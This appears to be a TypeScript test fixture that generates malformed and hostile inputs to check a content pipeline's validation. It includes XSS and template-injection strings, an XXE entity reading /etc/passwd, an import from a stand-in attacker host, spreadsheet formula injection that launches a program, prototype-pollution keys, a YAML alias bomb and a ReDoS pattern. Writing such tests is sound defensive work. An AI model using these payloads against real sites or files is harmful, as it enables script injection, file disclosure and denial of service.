import { type Pair, isMap, isPair, isScalar, isSeq, parseDocument, visit } from 'yaml';
import type { Change } from './content-copy.ts';

/** The ways to break content. Each is applied to every file, or to every field of every file, that it fits. */

const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, index) => from + index);

/** Characters that no text may contain: control, direction and invisible characters, and noncharacters. */
export const FORBIDDEN: readonly string[] = [
  [0x00, 0x01, 0x07, 0x08, 0x09, 0x0b, 0x0c, 0x0d, 0x1b, 0x7f, 0x80, 0x85, 0x9b],
  [0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x2028, 0x2029, 0x2060, 0x2064, 0x206f, 0x2800, 0x3164, 0xfeff, 0xffa0],
  range(0x200b, 0x200f),
  range(0x202a, 0x202e),
  range(0x2066, 0x2069),
  [0xfe00, 0xfe0f, 0xfff9, 0xfffd, 0xfffe, 0xffff, 0xfdd0, 0x1d173, 0xe0001, 0xe0041, 0xe007f, 0xe0100, 0x1fffe, 0x10ffff],
].flatMap((points) => points.map((point) => String.fromCodePoint(point)));

/** A text that is different in each broken file, so that a test can look for it in the output. */
export type Marked = (mark: string) => unknown;

/** Wrong values for a field. */
export const VALUES: Readonly<Record<string, Readonly<Record<string, Marked>>>> = {
  types: {
    number: (mark) => Number(mark.slice(1)) + 0.5,
    'a huge number': (mark) => Number(`${mark.slice(1)}e300`),
    true: () => true,
    false: () => false,
    null: () => null,
    list: (mark) => [mark],
    'empty list': () => [],
    record: (mark) => ({ value: mark }),
    'list of lists': (mark) => [[[mark]]],
    prototype: (mark) => JSON.parse(`{"__proto__": {"polluted": "${mark}"}}`),
  },
  spaces: {
    'an empty value': () => '',
    'a space': () => ' ',
    'a space at the start': (mark) => ` ${mark}`,
    'a space at the end': (mark) => `${mark} `,
    'a no-break space at the end': (mark) => `${mark}\u00a0`,
    'a line feed in it': (mark) => `${mark}\nmore`,
    'a line feed at the end': (mark) => `${mark}\n`,
    'Windows’ line end in it': (mark) => `${mark}\r\nmore`,
  },
  unicode: {
    'not composed': (mark) => `Cre\u0301dit ${mark}`,
    'the first half of a surrogate pair': (mark) => `${mark} \ud800`,
    'the second half of a surrogate pair': (mark) => `${mark} \udc00`,
    'another script': (mark) => `Фронтир 銀行 العربية ${mark}`,
    'a pile of combining marks': (mark) => `Z${'\u0323\u0317'.repeat(40)} ${mark}`,
    'an emoji': (mark) => `${mark} \u{1f600}`,
    'a private character': (mark) => `${mark} \ue000`,
  },
  script: {
    'a script': (mark) => `<script>alert(1)</script> ${mark}`,
    'the end of a script': (mark) => `</script><script>alert(1)</script> ${mark}`,
    'an image with a handler': (mark) => `"><img src=x onerror=alert(1)> ${mark}`,
    'an attribute’s end': (mark) => `" onmouseover="alert(1)" x="${mark}`,
    'an attribute’s end, single': (mark) => `' autofocus onfocus='alert(1)' ${mark}`,
    'an SVG': (mark) => `<svg/onload=alert(1)> ${mark}`,
    'a frame': (mark) => `<iframe srcdoc="<script>alert(1)</script>"></iframe> ${mark}`,
    'a style': (mark) => `</style><style>*{display:none}</style> ${mark}`,
    'a title’s end': (mark) => `</title><base href="https://evil.example/"> ${mark}`,
    'a comment': (mark) => `<!-- ${mark} --> <!--`,
    'a CDATA’s end': (mark) => `]]><x>${mark}</x>`,
    'an entity': (mark) => `&lt;script&gt; &amp; &#x202e; ${mark}`,
    'an entity of its own': (mark) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; ${mark}`,
    'a template': (mark) => `{{constructor.constructor('alert(1)')()}} \${alert(1)} ${mark}`,
    'a tag of the catalogues': (mark) => `<0>${mark}</0>`,
    'a placeholder': (mark) => `{title} {0} ${mark}`,
    'a string’s end': (mark) => `');alert(1);(' ${mark}`,
    'a module’s end': (mark) => `"); import("https://evil.example"); (" \` ${mark}`,
    'a backslash': (mark) => `\\"); alert(1)// \\ ${mark}`,
  },
  addresses: {
    javascript: (mark) => `javascript:alert(1)//${mark}`,
    'javascript in capitals': (mark) => `JaVaScRiPt:alert(1)//${mark}`,
    data: (mark) => `data:text/html,<script>alert(1)</script>${mark}`,
    vbscript: (mark) => `vbscript:alert(1)//${mark}`,
    file: (mark) => `file:///etc/passwd?${mark}`,
    'another host': (mark) => `//evil.example/${mark}`,
    'backslashes for slashes': (mark) => `\\\\evil.example\\${mark}`,
    'the root': (mark) => `/../../${mark}`,
    'a path upwards': (mark) => `../../../etc/${mark}`,
    'a user before the host': (mark) => `https://user:secret@evil.example/${mark}`,
    'a host that opens the policy': (mark) => `https://*;script-src'unsafe-inline'/${mark}`,
    unencrypted: (mark) => `http://evil.example/${mark}`,
    'a real host': (mark) => `https://evil.com/${mark}`,
  },
  formulas: {
    'a program': (mark) => `=cmd|' /C calc'!A0 ${mark}`,
    'a link': (mark) => `=HYPERLINK("https://evil.example","${mark}")`,
    plus: (mark) => `+1+${mark}`,
    minus: (mark) => `-1-${mark}`,
    at: (mark) => `@SUM(1,${mark})`,
    'full-width': (mark) => `\uff1d1+${mark}`,
    'escaped once already': (mark) => `'=1+${mark}`,
  },
  dates: {
    'a day that no month has': () => '2025-02-30',
    'a month that no year has': () => '2025-13-01',
    'no day': () => '0000-00-00',
    'a year of two digits': () => '25-07-14',
    'a year in the wrong millennium': () => '0205-07-14',
    'a year in the far future': () => '9999-12-31',
    'a year of six digits': () => '+012025-07-14',
    'the day before the month': () => '14/07/2025',
    'a time after it': () => '2025-07-14T00:00:00Z',
    'other digits': () => '٢٠٢٥-٠٧-١٤',
    'an hour that no day has': () => '2025-07-14 24:00 UTC',
  },
  numbers: {
    'one below zero': () => '-1',
    'a fraction': () => '1.5',
    'no number': () => 'NaN',
    infinite: () => 'Infinity',
    hexadecimal: () => '0x10',
    'with an exponent': () => '1e3',
    grouped: () => '1,000',
    'too large for a number': () => '9'.repeat(400),
  },
  references: {
    'an unknown one': (mark) => `nowhere-${mark}`,
    'a page that does not exist': (mark) => `/nowhere/${mark}`,
    'a licence that does not exist': (mark) => `FCA-1900-XX-${mark.slice(1)}`,
    'the prototype’s': () => '__proto__',
    'the constructor': () => 'constructor',
    'a method of all objects': () => 'tostring',
    'the anchor of every page': () => 'main',
    'a pattern that takes too long': (mark) => `^(([a-zA-Z0-9-]+)+)+${mark}$`,
    'an invalid pattern': (mark) => `([${mark}`,
  },
  sizes: {
    '301 characters': (mark) => mark.padEnd(301, 'x'),
    '5,001 characters': (mark) => mark.padEnd(5_001, 'x '),
    '30 kB': (mark) => mark.padEnd(30_000, 'x'),
    '10,001 values': (mark) => Array.from({ length: 10_001 }, (_, index) => `${mark} ${index}`),
  },
};

const utf16 = (source: string, swap: boolean) => {
  const bytes = Buffer.from(source, 'utf16le');
  return swap ? bytes.swap16() : bytes;
};
const utf32 = (source: string) => Buffer.from(new Uint32Array([...source].map((character) => character.codePointAt(0) ?? 0)).buffer);
const insert = (source: string, ...bytes: number[]) => {
  const at = source.indexOf('\n', source.length / 2) + 1;
  return Buffer.concat([Buffer.from(source.slice(0, at)), Buffer.from(bytes), Buffer.from(source.slice(at))]);
};

/** Ways to break a file of any kind. */
export const FILES: Readonly<Record<string, Readonly<Record<string, (source: string, file: string) => Change>>>> = {
  encodings: {
    'UTF-16': (source) => Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(source, false)]),
    'UTF-16, big-endian': (source) => Buffer.concat([Buffer.from([0xfe, 0xff]), utf16(source, true)]),
    'UTF-16 without its mark': (source) => utf16(source, false),
    'UTF-16, big-endian, without its mark': (source) => utf16(source, true),
    'UTF-32': (source) => utf32(source),
    'Latin-1': (source) => Buffer.from(`# Cr\u00e9dit\n${source}`, 'latin1'),
    'Windows-1252': (source) => insert(source, 0x23, 0x20, 0x93, 0x94, 0x0a),
    'a byte that begins no character': (source) => insert(source, 0x23, 0xff, 0x0a),
    'an overlong form': (source) => insert(source, 0x23, 0xc0, 0x80, 0x0a),
    'half of a pair': (source) => insert(source, 0x23, 0xed, 0xa0, 0x80, 0x0a),
    'a character cut off': (source) => Buffer.concat([Buffer.from(source), Buffer.from([0xe2, 0x82])]),
    'replacement characters': (source) => insert(source, 0x23, 0xef, 0xbf, 0xbd, 0x0a),
    'a byte order mark': (source) => `\ufeff${source}`,
    'two byte order marks': (source) => `\ufeff\ufeff${source}`,
    'a byte order mark in the middle': (source) => insert(source, 0xef, 0xbb, 0xbf),
    'a NUL': (source) => insert(source, 0x00),
    'a NUL at the end': (source) => `${source}\0`,
    'Windows’ line ends': (source) => source.replaceAll('\n', '\r\n'),
    'old Macintosh line ends': (source) => source.replaceAll('\n', '\r'),
    'mixed line ends': (source) => source.replace('\n', '\r\n'),
    'a form feed': (source) => insert(source, 0x0c),
    'a direction override in a comment': (source) => insert(source, 0x23, 0x20, 0xe2, 0x80, 0xae, 0x0a),
  },
  'files and folders': {
    missing: () => null,
    empty: () => '',
    'only a byte order mark': () => '\ufeff',
    'only a space': () => ' \n',
    'a folder in its place': () => ({ folder: true }),
    'a link in its place': (_source, file) => ({ linkTo: file }),
    'the first half': (source) => source.slice(0, source.length / 2),
    'the file twice': (source) => source + source,
    'a picture': () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
    'a page': () => '<!doctype html><title>Not found</title>\n',
  },
  sizes: {
    '10 MB on a line': (source) => `${source}# ${'x'.repeat(10_000_000)}\n`,
    '65 MB': (source) => `${source}${`${'#'.repeat(999)}\n`.repeat(65_000)}`,
  },
};

/** Ways to break a YAML file: YAML that content does not need, invalid YAML, and very deep or long structures. */
export const YAML: Readonly<Record<string, Readonly<Record<string, (source: string) => string>>>> = {
  syntax: {
    'a tab for indentation': (source) => source.replace(/\n {2}(?=\S)/, '\n\t'),
    'a tab after a key': (source) => source.replace(/: (?=\S)/, ':\t'),
    'a quote that is not closed': (source) => source.replace(/: .*\n/, ': "no end\n'),
    'a bracket that is not closed': (source) => source.replace(/: .*\n/, ': [no end\n'),
    'two documents': (source) => `${source}---\n${source}`,
    'another document before': (source) => `a: 1\n---\n${source}`,
    'a version': (source) => `%YAML 1.1\n---\n${source}`,
    'a tag’s prefix': (source) => `%TAG ! tag:evil.example,2025:\n---\n${source}`,
    'an unknown directive': (source) => `%EVIL\n---\n${source}`,
    'a word before the content': (source) => `word\n${source}`,
    'a reserved character': (source) => source.replace(/: (?=\w)/, ': @'),
  },
  'anchors and tags': {
    'an anchor': (source) => source.replace(/: (?=['"\w])/, ': &a '),
    'an alias without an anchor': (source) => source.replace(/: .*\n/, ': *a\n'),
    'a bomb of aliases': (source) => `${bomb()}${source.replaceAll(/^(?=[^\n])/gm, '  ')}`,
    'a list that contains itself': (source) => `${source.startsWith('-') ? '- ' : 'cycle: '}&a [*a]\n${source}`,
    'a merge': (source) => source.replace(/^( *|- )(\w+): /m, '$1<<: {x: 1}\n$&'),
    'a script’s tag': (source) => source.replace(/: (?=['"\w])/, ': !!js/function '),
    'a tag of bytes': (source) => source.replace(/: (?=['"\w])/, ': !!binary '),
    'a tag of text': (source) => source.replace(/: (?=['"\w])/, ': !!str '),
    'an unknown tag': (source) => source.replace(/: (?=['"\w])/, ': !evil '),
  },
  'shapes without end': {
    'lists in lists': (source) => `${source.startsWith('-') ? '- ' : 'deep: '}${'['.repeat(9_000)}${']'.repeat(9_000)}\n${source}`,
    'records in records': (source) => `${source.startsWith('-') ? '- ' : 'deep: '}${'{a: '.repeat(4_000)}1${'}'.repeat(4_000)}\n${source}`,
    'keys and keys': (source) => keys(source, 30_000),
    'a long row of empty lists': (source) =>
      `${source}${`# \n`.repeat(10)}${source.startsWith('-') ? '- ' : 'many: '}[\n${` ${'[],'.repeat(5_000)}\n`.repeat(50)} ]\n`,
  },
  'keys of all objects': Object.fromEntries(
    ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '"\\u202e"', '? [a]'].map((key) => [
      key,
      (source: string) =>
        source.replace(
          /^( *|- )(\w+): /m,
          (whole, indent: string) => `${indent}${key}: {polluted: yes}\n${' '.repeat(indent.length)}${whole.slice(indent.length)}`,
        ),
    ]),
  ),
};

function bomb(): string {
  const letters = [...'abcdefghi'];
  const lines = letters.map(
    (letter, index) =>
      `  - &${letter} [${Array(9)
        .fill(index === 0 ? 'x' : `*${letters[index - 1]}`)
        .join(', ')}]`,
  );
  return `bomb:\n${lines.join('\n')}\nrest:\n`;
}

function keys(source: string, count: number): string {
  const indent = source.startsWith('-') || /^- /m.test(source) ? '  ' : '';
  return `${source}${Array.from({ length: count }, (_, index) => `${indent}k${index}: x\n`).join('')}`;
}

/** Ways to break a table. */
export const CSV: Readonly<Record<string, Readonly<Record<string, (source: string) => string>>>> = {
  syntax: {
    'a quote that is not closed': (source) => source.replace(/\n/, '\n"no end'),
    'a stray quote': (source) => source.replace(/\n\w/, '$&"'),
    'another separator': (source) => source.replaceAll(',', ';'),
    'tabs for commas': (source) => source.replaceAll(',', '\t'),
    'a cell too many': (source) => source.replace(/\n(?=\w)/, '\nmore,'),
    'a cell too few': (source) => `${source}one,two\n`,
    'no header': (source) => source.slice(source.indexOf('\n') + 1),
    'a header alone': (source) => source.slice(0, source.indexOf('\n') + 1),
    'two headers': (source) => source.slice(0, source.indexOf('\n') + 1) + source,
    'a column twice': (source) => source.replace(/^(\w+),(\w+)/, '$1,$1'),
    'a column of another name': (source) => source.replace(/^\w+/, 'colour'),
    'a column in capitals': (source) => source.replace(/^\w+/, (name) => name.toUpperCase()),
    'a column of nothing': (source) => source.replace(/^\w+/, ''),
    'a column of formulas': (source) => source.replace(/^\w+/, '=1+1'),
    'a row twice': (source) => source + (source.trimEnd().split('\n').at(-1) ?? ''),
    'a row of 30 kB': (source) => `${source}"${'x\n'.repeat(15_000)}",\n`,
    'a thousand columns': (source) => `${source.slice(0, source.indexOf('\n'))}${',x'.repeat(1_000)}\n`,
  },
  'keys of all objects': Object.fromEntries(
    ['__proto__', 'constructor', 'prototype', 'toString'].map((key) => [key, (source: string) => source.replace(/^\w+/, key)]),
  ),
};

/** Breaks a catalogue in its last text. */
const last = (source: string, pattern: RegExp, by: string) => {
  const at = source.lastIndexOf('\nmsgid ');
  return source.slice(0, at) + source.slice(at).replace(pattern, by);
};
export const PO: Readonly<Record<string, Readonly<Record<string, (source: string) => string>>>> = {
  syntax: {
    'a quote that is not closed': (source) => last(source, /"\n?$/, '\n'),
    'a stray quote': (source) => last(source, /msgstr "/, 'msgstr ""'),
    'a key without a text': (source) => last(source, /\nmsgstr.*/, ''),
    'a text without a key': (source) => `${source}\nmsgstr "alone"\n`,
    'a text twice': (source) => source + source.slice(source.lastIndexOf('\nmsgid ')),
    'a text that is not in English': (source) => `${source}\nmsgid "nowhere"\nmsgstr "<script>alert(1)</script>"\n`,
    'no translation': (source) => last(source, /msgstr "(.*)"/, 'msgstr ""'),
    'words between': (source) => `${source}\nwords\n`,
    'a context': (source) => last(source, /\nmsgid/, '\nmsgctxt "x"\nmsgid'),
    'a plural of another kind': (source) => last(source, /msgstr "/, 'msgstr[0] "'),
    'an escape of nobody': (source) => last(source, /msgstr "/, 'msgstr "\\x'),
  },
  'placeholders and tags': {
    'a script': (source) => last(source, /msgstr "/, 'msgstr "<script>alert(1)</script>'),
    'a tag': (source) => last(source, /msgstr "/, 'msgstr "<9>x</9>'),
    'a placeholder': (source) => last(source, /msgstr "/, 'msgstr "{constructor}'),
    'a brace': (source) => last(source, /msgstr "/, 'msgstr "{'),
    'a plural without its other': (source) => last(source, /msgstr "/, 'msgstr "{n, plural, one {x}}'),
  },
};

/** Files that do not belong in the folder. */
export const STRAYS: readonly string[] = [
  'extra.yaml',
  'firms.csv~',
  'firms.csv.bak',
  'firms (1).csv',
  '.firms.csv.swp',
  'Firms.csv',
  'site.yml',
  'index.html',
  'evil.js',
  'guidance/new.yaml',
  'guidance/aml-004.yaml.orig',
  'legal/cookies.yaml',
  'downloads/unlisted.yaml',
  'checklists/.env',
  'advisories/market-manipulation.pdf',
  'new/folder/deep.yaml',
  '__proto__',
  'constructor.yaml',
  'name‮fdp.yaml',
  '-rf',
  'locales/de/messages.po',
  'locales/es/extra.po',
  'locales/readme.txt',
  'locales/ar/messages.po~',
];

/** Removes each key of a YAML file, and renames or doubles it. Only one record of a list is changed. Yields each changed file. */
export function* withOtherKeys(source: string): Generator<{ kind: string; path: readonly (string | number)[]; changed: string }> {
  const seen = new Set<string>();
  const found: (string | number)[][] = [];
  const parsed = parseDocument(source);
  visit(parsed, {
    Pair(_role, pair, ancestors) {
      const path = [...ancestors, pair].flatMap((ancestor, depth, all): (string | number)[] => {
        const below = all[depth + 1];
        if (isPair(ancestor)) return isScalar(ancestor.key) ? [String(ancestor.key.value)] : [];
        return isSeq(ancestor) ? [ancestor.items.indexOf(below)] : [];
      });
      const shape = path.map((step) => (typeof step === 'number' ? '*' : step)).join('.');
      if (!seen.has(shape)) found.push(path);
      seen.add(shape);
    },
  });
  for (const [index, path] of found.entries()) {
    for (const kind of ['missing', index % 2 === 0 ? 'renamed' : 'given twice'] as const) {
      const document = parsed.clone();
      const parent: unknown = path.length === 1 ? document.contents : document.getIn(path.slice(0, -1), true);
      if (!isMap(parent)) continue;
      const pair: Pair | undefined = parent.items.find(({ key }) => isScalar(key) && key.value === path.at(-1));
      if (!pair) continue;
      if (kind === 'missing') parent.items.splice(parent.items.indexOf(pair), 1);
      else if (kind === 'given twice') parent.items.push(pair);
      else if (isScalar(pair.key)) pair.key.value = `${String(path.at(-1))}s`;
      yield { kind, path, changed: document.toString({ lineWidth: 0 }) };
    }
  }
}
